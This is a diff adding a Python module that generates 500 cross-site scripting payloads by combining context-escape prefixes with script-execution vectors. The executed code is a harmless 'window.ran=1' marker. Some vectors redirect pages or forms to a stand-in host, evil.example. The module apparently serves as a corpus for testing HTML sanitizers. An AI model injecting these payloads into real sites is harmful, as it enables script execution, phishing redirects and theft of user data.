@@ -1,0 +1,55 @@
+"""Five hundred texts that would run in a page that trusts them: ways out of a context × ways to run."""
+
+from itertools import product
+
+RUN = "window.ran=1"
+WAYS_OUT = (
+    "",
+    '">',
+    "'>",
+    "</bdi>",
+    "</title>",
+    "</textarea>",
+    "</script>",
+    "</style>",
+    "</noscript>",
+    "</svg></desc>",
+    "</option></select>",
+    "-->",
+    "]]>",
+    "{{ 7|add:7 }}{% debug %}",
+    "</a></td></tr></table>",
+    "\u2028</code>",
+    "&lt;/bdi&gt;",
+    "%22%3E",
+    "\\u0022\\u003e",
+    "\r\n\r\n",
+)
+WAYS_TO_RUN = (
+    f"<script>{RUN}</script>",
+    f"<ScRiPt>{RUN}//<",
+    f"<img src=x onerror={RUN}>",
+    f"<svg onload={RUN}>",
+    f"<svg><script>{RUN}</script>",
+    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
+    f"<body onload={RUN}>",
+    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
+    f"<iframe src=javascript:parent.{RUN}>",
+    f"<details open ontoggle={RUN}>",
+    f"<input autofocus onfocus={RUN}>",
+    f"<video><source onerror={RUN}>",
+    f"<math><mtext><img src=x onerror={RUN}>",
+    f"<a href=javascript:{RUN} autofocus>x</a>",
+    f'" autofocus onfocus={RUN} x="',
+    f"' onmouseover={RUN} x='",
+    f"javascript:{RUN}",
+    f"<object data=javascript:{RUN}>",
+    f"<embed src=data:text/html,<script>{RUN}</script>>",
+    f"<link rel=stylesheet href=data:text/css,*{{color:red}}><style>@import'x'</style><img src=x onerror={RUN}>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<form action=//evil.example><button>x</button></form>",
+    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
+    f"';{RUN};//`${{{RUN}}}",
+)
+PAYLOADS = tuple(out + run for out, run in product(WAYS_OUT, WAYS_TO_RUN))
